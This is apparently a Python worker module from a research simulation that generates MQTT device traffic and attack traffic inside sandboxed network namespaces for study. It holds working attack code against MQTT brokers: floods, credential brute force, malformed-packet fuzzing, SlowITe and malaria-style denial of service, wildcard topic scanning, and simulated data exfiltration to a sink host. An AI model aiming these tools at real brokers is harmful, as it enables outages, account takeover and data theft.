"""The programs a live run starts inside its namespaces: the device fleet and the attack tools
that are not external programs (nmap is). Run as `python -m atlas.sim.live.worker ROLE PLAN.json`.

Each prints JSON lines on stdout: {"event": "start", "t": ...} when it sends its first packet,
{"event": "end", "t": ..., ...counts} when it has sent its last one. Every loop is bounded by a
count and a deadline from the plan; every socket is bound to an address of the plan inside
the namespace, so nothing leaves the run's namespaces.
"""
from __future__ import annotations

import base64
import json
import os
import random
import resource
import select
import socket
import sys
import time
from typing import Any

MAX_SECONDS = 3600.0  # no role runs longer than this, whatever the plan says


def emit(event: str, **kw: Any) -> None:
    print(json.dumps({"event": event, "t": time.time(), **kw}), flush=True)


def _sleep_until(t: float, deadline: float) -> bool:
    """Sleep until epoch `t`; False if that is past the deadline."""
    if t > deadline:
        return False
    delay = t - time.time()
    if delay > 0:
        time.sleep(delay)
    return True


def _deadline(plan: dict) -> float:
    return min(float(plan["end"]), time.time() + MAX_SECONDS)


def _wait_for_start(plan: dict) -> None:
    """The orchestrator starts a tool a little early (Python and its imports take a while on a
    busy machine): wait here, ready, until the step's start time `at`."""
    _sleep_until(min(float(plan.get("at", 0.0)), float(plan["end"])), float(plan["end"]))


# ---- paho clients ------------------------------------------------------------------------------

def _client(cid: str, version: int, clean: bool = True):
    import paho.mqtt.client as mqtt

    if version == 5:
        return mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, client_id=cid, protocol=mqtt.MQTTv5)
    return mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, client_id=cid, protocol=mqtt.MQTTv311, clean_session=clean)


def _connect(client, plan: dict, bind: str, keepalive: int, clean: bool = True, version: int = 4) -> None:
    kw: dict[str, Any] = {"bind_address": bind}
    if version == 5:
        kw["clean_start"] = clean
    client.connect(plan["broker"], int(plan.get("port", 1883)), keepalive=keepalive, **kw)


class Fleet:
    """Many paho clients driven by one thread: select over their sockets, publish on schedule."""

    RECONNECTS = 5  # per client, at most

    def __init__(self, plan: dict) -> None:
        self.plan = plan
        self.clients: list[Any] = []
        self.specs = plan["clients"]
        self.connected = [False] * len(self.specs)
        self.ever = [False] * len(self.specs)
        self.reconnects = [0] * len(self.specs)
        self.lost = [0.0] * len(self.specs)  # when the connection dropped (0: it did not)
        self.refused: dict[str, int] = {}
        self.published = 0
        self.failed = 0

    def _make(self, i: int):
        spec = self.specs[i]
        c = _client(spec["cid"], int(spec["version"]), bool(spec["clean"]))
        c.username_pw_set(spec["user"], spec["password"])

        def on_connect(client, userdata, flags, reason, properties, i=i, spec=spec):
            if reason.is_failure:
                self.refused[spec["cid"]] = int(reason.value)
                return
            self.connected[i] = self.ever[i] = True
            for topic, qos in spec.get("subscribe", []):
                client.subscribe(topic, qos)

        def on_disconnect(client, userdata, flags, reason, properties, i=i):
            if self.connected[i]:
                self.lost[i] = time.time()
            self.connected[i] = False

        c.on_connect = on_connect
        c.on_disconnect = on_disconnect
        return c

    def _open(self, i: int) -> None:
        spec = self.specs[i]
        try:
            _connect(self.clients[i], self.plan, spec["ip"], int(spec["keepalive"]), bool(spec["clean"]), int(spec["version"]))
        except OSError as exc:
            self.refused[spec["cid"]] = -1
            emit("connect_error", cid=spec["cid"], error=str(exc))

    def run(self) -> None:
        """Connect every client, say so, wait for `go T` on stdin, publish the plan's messages
        at T + offset until T + duration, disconnect. Bounded: MAX_SECONDS in all."""
        launch = time.time()
        hard_end = launch + MAX_SECONDS
        duration = min(float(self.plan["duration"]), MAX_SECONDS)
        connect_by = launch + float(self.plan["warmup"]) + 10.0
        self.clients = [self._make(i) for i in range(len(self.specs))]
        connects = sorted((launch + float(s["connect_at"]), i) for i, s in enumerate(self.specs))
        msgs = self.plan["messages"]  # [offset, client, topic, payload (base64), qos, retain], by time
        mi = ci = 0
        last_misc = 0.0
        go: float | None = None
        announced = False
        while True:
            now = time.time()
            if now >= hard_end or (go is not None and now >= go + duration) or (go is None and now > connect_by + 60):
                break
            while ci < len(connects) and connects[ci][0] <= now:
                self._open(connects[ci][1])
                ci += 1
            if not announced and (all(self.ever) or now > connect_by):
                announced = True
                emit("connected", clients=len(self.specs), connected=sum(self.ever), refused=self.refused)
            while go is not None and mi < len(msgs) and go + msgs[mi][0] <= now:
                off, k, topic, payload, qos, retain = msgs[mi]
                mi += 1
                if not self.connected[k]:
                    self.failed += 1
                    continue
                info = self.clients[k].publish(topic, base64.b64decode(payload), int(qos), bool(retain))
                if info.rc == 0:
                    self.published += 1
                else:
                    self.failed += 1
            if now - last_misc >= 0.5:
                last_misc = now
                self._housekeeping(now, go + duration if go is not None else hard_end)
            nxt = [now + 0.25]
            if go is not None and mi < len(msgs):
                nxt.append(go + msgs[mi][0])
            if ci < len(connects):
                nxt.append(connects[ci][0])
            if self._pump(max(0.0, min(nxt) - time.time()), stdin=go is None and announced):
                line = sys.stdin.readline()
                if not line:  # the orchestrator went away
                    break
                if line.startswith("go "):
                    go = float(line.split()[1])
                    emit("start", at=go, messages=len(msgs))
        for i, c in enumerate(self.clients):
            if self.connected[i]:
                c.disconnect()
        end = time.time() + 1.0
        while time.time() < end and any(c.want_write() for c in self.clients if c.socket()):
            self._pump(0.05)
        emit("end", published=self.published, failed=self.failed, unsent=len(msgs) - mi, connected=sum(self.ever),
             refused=self.refused, reconnects=sum(self.reconnects))

    def _housekeeping(self, now: float, deadline: float) -> None:
        """Keepalive pings, and a bounded number of reconnects after a lost connection."""
        for i, c in enumerate(self.clients):
            if c.socket() is not None:
                c.loop_misc()
            elif self.lost[i] and now - self.lost[i] > 1.0 and self.reconnects[i] < self.RECONNECTS and now < deadline - 1:
                self.reconnects[i] += 1
                self.lost[i] = 0.0
                try:
                    c.reconnect()
                except OSError:
                    self.lost[i] = now

    def _pump(self, timeout: float, stdin: bool = False) -> bool:
        """One select over the clients' sockets (and stdin); True if stdin has a line."""
        socks = {}
        for c in self.clients:
            s = c.socket()
            if s is not None:
                socks[s] = c
        rl: list[Any] = list(socks) + ([sys.stdin] if stdin else [])
        if not rl:
            time.sleep(timeout)
            return False
        wl = [s for s, c in socks.items() if c.want_write()]
        try:
            r, w, _ = select.select(rl, wl, [], timeout)
        except (OSError, ValueError):
            return False
        for s in r:
            if s in socks:
                socks[s].loop_read()
        for s in w:
            if socks[s].socket() is not None:
                socks[s].loop_write()
        return sys.stdin in r


def devices(plan: dict) -> None:
    Fleet(plan).run()


# ---- attacks -----------------------------------------------------------------------------------

def flood(plan: dict) -> None:
    """`rate` PUBLISH/s of random payloads on one topic, with the credentials in the plan."""
    deadline = _deadline(plan)
    rng = random.Random(plan["seed"])
    rate, n = float(plan["rate"]), int(plan["count"])
    lo, hi = int(plan["size_min"]), max(int(plan["size_min"]), int(plan["size_max"]))
    c = _client(plan["cid"], int(plan["version"]))
    c.username_pw_set(plan["user"], plan["password"])
    _wait_for_start(plan)
    _connect(c, plan, plan["bind"], 60, version=int(plan["version"]))
    c.loop_start()
    emit("start")
    sent = 0
    start = time.time()
    try:
        for i in range(n):
            if not _sleep_until(start + i / rate, deadline):
                break
            if c.publish(plan["topic"], rng.randbytes(rng.randint(lo, hi)), int(plan["qos"])).rc == 0:
                sent += 1
    finally:
        time.sleep(0.2)
        c.disconnect()
        c.loop_stop()
    emit("end", sent=sent)


def bruteforce(plan: dict) -> None:
    """`count` CONNECT attempts at `rate`/s, each on a fresh connection, guessed credentials."""
    import paho.mqtt.client as mqtt

    deadline = _deadline(plan)
    rate, n = float(plan["rate"]), int(plan["count"])
    codes: dict[str, int] = {}
    _wait_for_start(plan)
    start = time.time()
    emit("start")
    tried = 0
    for i, (user, password) in enumerate(plan["guesses"][:n]):
        if not _sleep_until(start + i / rate, deadline):
            break
        got: list[int] = []
        c = _client(plan["cid"], int(plan["version"]))
        c.username_pw_set(user, password)
        c.on_connect = lambda client, u, f, reason, p, got=got: got.append(int(reason.value))
        try:
            _connect(c, plan, plan["bind"], 60, version=int(plan["version"]))
            until = time.time() + 2.0
            while not got and time.time() < until and c.loop(timeout=0.1) == mqtt.MQTT_ERR_SUCCESS:
                pass
            if not got:  # the broker closed the connection after its CONNACK
                c.loop(timeout=0.05)
        except OSError:
            got.append(-1)
        finally:
            if got and got[0] == 0:
                c.disconnect()
            c.socket() and c.socket().close()
        tried += 1
        key = str(got[0]) if got else "none"
        codes[key] = codes.get(key, 0) + 1
    emit("end", sent=tried, codes=codes)


def _tcp(plan: dict, timeout: float = 2.0) -> socket.socket:
    s = socket.socket()
    s.settimeout(timeout)
    s.bind((plan["bind"], 0))
    s.connect((plan["broker"], int(plan.get("port", 1883))))
    return s


def _scapy_connect(cid: bytes, user: str = "", password: str = "", keepalive: int = 60, **over: Any) -> bytes:
    from scapy.contrib.mqtt import MQTT, MQTTConnect

    fields: dict[str, Any] = {"protoname": b"MQTT", "protolevel": 4, "cleansess": 1, "klive": keepalive, "clientId": cid}
    if user:
        fields.update(usernameflag=1, username=user.encode())
    if password:
        fields.update(passwordflag=1, password=password.encode())
    fields.update(over)
    return bytes(MQTT(type=1) / MQTTConnect(**fields))


MALFORMED = ("bad_protocol_name", "bad_protocol_level", "reserved_connect_flag", "invalid_utf8_client_id",
             "bad_remaining_length", "qos3", "invalid_utf8_topic", "null_in_topic", "reserved_type")


def _malformed_bytes(kind: str, rng: random.Random, user: str, password: str) -> tuple[bytes, bytes]:
    """(what to send first, what to send after the CONNACK): crafted with Scapy's MQTT layers."""
    from scapy.contrib.mqtt import MQTT, MQTTPublish

    cid = f"fz{rng.getrandbits(32):08x}".encode()
    topic = f"city/d01/{rng.choice(['transport', 'energy', 'safety'])}/x{rng.randrange(1000)}".encode()
    if kind == "bad_protocol_name":
        return _scapy_connect(cid, user, password, protoname=rng.choice([b"MQTX", b"HTTP"])), b""
    if kind == "bad_protocol_level":
        return _scapy_connect(cid, user, password, protolevel=rng.choice([6, 7])), b""
    if kind == "reserved_connect_flag":
        return _scapy_connect(cid, user, password, reserved=1), b""
    if kind == "invalid_utf8_client_id":
        return _scapy_connect(cid[:4] + b"\xed\xa0\x80" + cid[4:], user, password), b""
    good = _scapy_connect(cid, user, password)
    if kind == "bad_remaining_length":
        raw = bytes(MQTT(type=3, len=0xFFFFFFF) / MQTTPublish(topic=topic, value=b"junk"))  # 30 ff ff ff 7f ...
        return good, raw[:1] + b"\xff" + raw[1:]  # a fifth length byte: never valid
    if kind == "qos3":
        return good, bytes(MQTT(type=3, QOS=3) / MQTTPublish(topic=topic, value=b"{}"))
    if kind == "invalid_utf8_topic":
        return good, bytes(MQTT(type=3) / MQTTPublish(topic=topic + b"/\xc3\x28\xff", value=b"{}"))
    if kind == "null_in_topic":
        return good, bytes(MQTT(type=3) / MQTTPublish(topic=topic + b"/\x00/x", value=b"{}"))
    if kind == "reserved_type":
        return good, b"\x00\x00"
    raise ValueError(f"malformed kind {kind!r}")


def malformed(plan: dict) -> None:
    """`count` malformed MQTT packets, each on a fresh TCP connection, at `rate`/s."""
    import scapy.contrib.mqtt  # noqa: F401  (seconds to import: before the clock starts)

    deadline = _deadline(plan)
    rng = random.Random(plan["seed"])
    rate, n = float(plan["rate"]), int(plan["count"])
    _wait_for_start(plan)
    start = time.time()
    emit("start")
    sent, kinds = 0, {}
    for i in range(n):
        if not _sleep_until(start + i / rate, deadline):
            break
        kind = MALFORMED[i % len(MALFORMED)] if i < len(MALFORMED) else rng.choice(MALFORMED)
        first, after = _malformed_bytes(kind, rng, plan["user"], plan["password"])
        try:
            with _tcp(plan) as s:
                s.sendall(first)
                if after:
                    s.settimeout(1.0)
                    s.recv(64)  # the CONNACK
                    s.sendall(after)
                s.settimeout(0.5)
                try:
                    s.recv(64)  # the broker's answer, or its close
                except OSError:
                    pass
            sent += 1
            kinds[kind] = kinds.get(kind, 0) + 1
        except OSError as exc:
            emit("error", kind=kind, error=str(exc))
    emit("end", sent=sent, kinds=kinds)


def slowite(plan: dict) -> None:
    """SlowITe: `count` connections at `rate`/s, each a CONNECT (crafted with Scapy) with
    keepalive `keepalive` s, then silence: the broker must hold every slot. Held until `hold_until`."""
    import scapy.contrib.mqtt  # noqa: F401  (seconds to import: before the clock starts)

    deadline = _deadline(plan)
    rate, n = float(plan["rate"]), int(plan["count"])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, n + 64)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    held: list[socket.socket] = []
    _wait_for_start(plan)
    start = time.time()
    emit("start")
    accepted = refused = 0
    try:
        for i in range(n):
            if not _sleep_until(start + i / rate, deadline):
                break
            cid = f"slowite-{plan['seed'] & 0xFFFF:04x}{i:05d}".encode()
            try:
                s = _tcp(plan)
                s.sendall(_scapy_connect(cid, plan["user"], plan["password"], keepalive=int(plan["keepalive"])))
                ack = s.recv(4)
                if len(ack) == 4 and ack[0] == 0x20 and ack[3] == 0:
                    accepted += 1
                    held.append(s)
                else:
                    refused += 1
                    s.close()
            except OSError:
                refused += 1
        _sleep_until(min(float(plan["hold_until"]), deadline), deadline)
    finally:
        for s in held:
            s.close()
    emit("end", sent=accepted + refused, accepted=accepted, refused=refused)


def topic_scan(plan: dict) -> None:
    """`#`, `$SYS/#`, then `filters` more filters at `rate` SUBSCRIBE/s, with the plan's credentials."""
    deadline = _deadline(plan)
    c = _client(plan["cid"], int(plan["version"]))
    c.username_pw_set(plan["user"], plan["password"])
    got = [0]
    c.on_message = lambda client, u, msg: got.__setitem__(0, got[0] + 1)
    _wait_for_start(plan)
    _connect(c, plan, plan["bind"], 60, version=int(plan["version"]))
    c.loop_start()
    emit("start")
    start = time.time()
    rate = float(plan["rate"])
    sent = 0
    try:
        for i, f in enumerate(plan["filters"]):
            if not _sleep_until(start + i / rate, deadline):
                break
            c.subscribe(f, 0)
            sent += 1
        _sleep_until(min(deadline, time.time() + 1.0), deadline)
    finally:
        c.disconnect()
        c.loop_stop()
    emit("end", sent=sent, harvested=got[0])


def publisher(plan: dict) -> None:
    """Planned PUBLISH messages (`offsets` after `at`, `payloads`) with the plan's credentials."""
    deadline = _deadline(plan)
    c = _client(plan["cid"], int(plan["version"]))
    c.username_pw_set(plan["user"], plan["password"])
    _wait_for_start(plan)
    _connect(c, plan, plan["bind"], 60, version=int(plan["version"]))
    c.loop_start()
    emit("start")
    start, sent = float(plan.get("at", time.time())), 0
    try:
        for off, payload in zip(plan["offsets"], plan["payloads"], strict=True):
            if not _sleep_until(start + float(off), deadline):
                break
            if c.publish(plan["topic"], base64.b64decode(payload), int(plan["qos"])).rc == 0:
                sent += 1
        time.sleep(0.3)
    finally:
        c.disconnect()
        c.loop_stop()
    emit("end", sent=sent)


def dos(plan: dict) -> None:
    """MQTT-malaria style: `count` clients at `rate`/s over the plan's `binds` addresses, each
    publishing `messages` of `size` bytes `interval` s apart, then disconnecting. One thread
    drives every client (select over their sockets)."""
    deadline = _deadline(plan)
    rng = random.Random(plan["seed"])
    binds, n, rate = plan["binds"], int(plan["count"]), float(plan["rate"])
    ver = int(plan["version"])
    _wait_for_start(plan)
    emit("start")
    start = time.time()
    active: list[list[Any]] = []  # [client, messages sent, next send time]
    opened = published = refused = 0
    i = 0
    while time.time() < deadline and (i < n or active):
        now = time.time()
        while i < n and start + i / rate <= now:
            c = _client(f"malaria-{plan['seed'] & 0xFFFF:04x}-{i:05d}", ver)
            c.username_pw_set(plan["user"], plan["password"])
            try:
                _connect(c, plan, binds[i % len(binds)], 60, version=ver)
                active.append([c, 0, now])
                opened += 1
            except OSError:
                refused += 1
            i += 1
        for a in list(active):
            c = a[0]
            if c.socket() is None:  # closed: by us after its messages, or by the broker
                active.remove(a)
                continue
            if not c.is_connected() or a[2] > now:
                continue
            if a[1] < int(plan["messages"]):
                if c.publish(plan["topic"], rng.randbytes(int(plan["size"])), int(plan["qos"])).rc == 0:
                    published += 1
                a[1] += 1
                a[2] = now + float(plan["interval"])
            else:
                c.disconnect()
                a[2] = float("inf")
        socks = {c.socket(): c for c, _, _ in active if c.socket() is not None}
        if not socks:
            time.sleep(0.005)
            continue
        try:
            r, w, _ = select.select(list(socks), [s for s, c in socks.items() if c.want_write()], [], 0.005)
        except (OSError, ValueError):
            continue
        for s in r:
            socks[s].loop_read()
        for s in w:
            if socks[s].socket() is not None:
                socks[s].loop_write()
    for c, _, _ in active:
        if c.socket() is not None:
            c.socket().close()
    emit("end", sent=opened, published=published, refused=refused)


def _sink(plan: dict, received: list[int]) -> socket.socket:
    """The "outside" host: a listening socket made inside the gateway's namespace (this thread
    switches there for the call only), drained by a daemon thread."""
    import threading

    from atlas.sim.live.netns import in_netns

    with in_netns(plan["sink_netns"]):
        srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((plan["dest"], int(plan["dport"])))
    srv.listen(16)
    srv.settimeout(0.5)
    end = float(plan["end"]) + 5.0

    def drain() -> None:
        conns: list[socket.socket] = []
        while time.time() < end:
            try:
                conn, _ = srv.accept()
                conn.setblocking(False)
                conns.append(conn)
            except (socket.timeout, OSError):
                pass
            for conn in list(conns):
                try:
                    while data := conn.recv(1 << 16):
                        received[0] += len(data)
                    conns.remove(conn)  # b"": the uploader closed
                    conn.close()
                except BlockingIOError:
                    pass
                except OSError:
                    conns.remove(conn)
        for conn in conns:
            conn.close()

    threading.Thread(target=drain, daemon=True).start()
    return srv


def exfil(plan: dict) -> None:
    """`total` bytes at `bytes_per_s` to dest:dport over `connections` successive connections:
    TLS application-data records, or HTTP POST bodies on 80/8080."""
    deadline = _deadline(plan)
    rng = random.Random(plan["seed"])
    received = [0]  # bytes the sink read (framing included)
    srv = _sink(plan, received)
    _wait_for_start(plan)
    rate, total, chunk = float(plan["bytes_per_s"]), int(plan["total"]), int(plan["chunk"])
    n_conn = max(1, int(plan["connections"]))
    emit("start")
    start, sent, opened = time.time(), 0, 0
    try:
        for j in range(n_conn):
            if time.time() >= deadline:
                break
            per_conn = total * (j + 1) // n_conn - total * j // n_conn  # the connections share the total exactly
            with socket.socket() as s:
                s.settimeout(2.0)
                s.bind((plan["bind"], 0))
                s.connect((plan["dest"], int(plan["dport"])))
                opened += 1
                mine = 0
                while mine < per_conn and sent < total:
                    if not _sleep_until(start + sent / rate, deadline):
                        break
                    body = rng.randbytes(min(chunk, per_conn - mine))
                    if plan["http"]:
                        head = (f"POST /api/v2/upload?part={j}-{mine} HTTP/1.1\r\nHost: {plan['dest']}\r\n"
                                f"Content-Type: application/octet-stream\r\nContent-Length: {len(body)}\r\n\r\n").encode()
                        s.sendall(head + body)
                    else:  # TLS 1.2/1.3 application-data record framing around opaque bytes
                        s.sendall(bytes([0x17, 0x03, 0x03]) + len(body).to_bytes(2, "big") + body)
                    mine += len(body)
                    sent += len(body)
    finally:
        time.sleep(0.5)  # the sink drains the last bytes
        srv.close()
    emit("end", sent=sent, connections=opened, received=received[0])


ROLES = {"devices": devices, "flood": flood, "bruteforce": bruteforce, "malformed": malformed, "slowite": slowite, "topic_scan": topic_scan,
         "publisher": publisher, "exfil": exfil, "dos": dos}


def main(argv: list[str] | None = None) -> int:
    argv = sys.argv[1:] if argv is None else argv
    if len(argv) != 2 or argv[0] not in ROLES:
        print(f"usage: python -m atlas.sim.live.worker {{{','.join(ROLES)}}} PLAN.json", file=sys.stderr)
        return 2
    with open(argv[1]) as f:
        plan = json.load(f)
    try:
        ROLES[argv[0]](plan)
    except KeyboardInterrupt:  # pragma: no cover - the orchestrator stops us with SIGTERM/SIGINT
        emit("interrupted")
        return 130
    return 0


if __name__ == "__main__":
    os.environ.setdefault("PYTHONUNBUFFERED", "1")
    sys.exit(main())
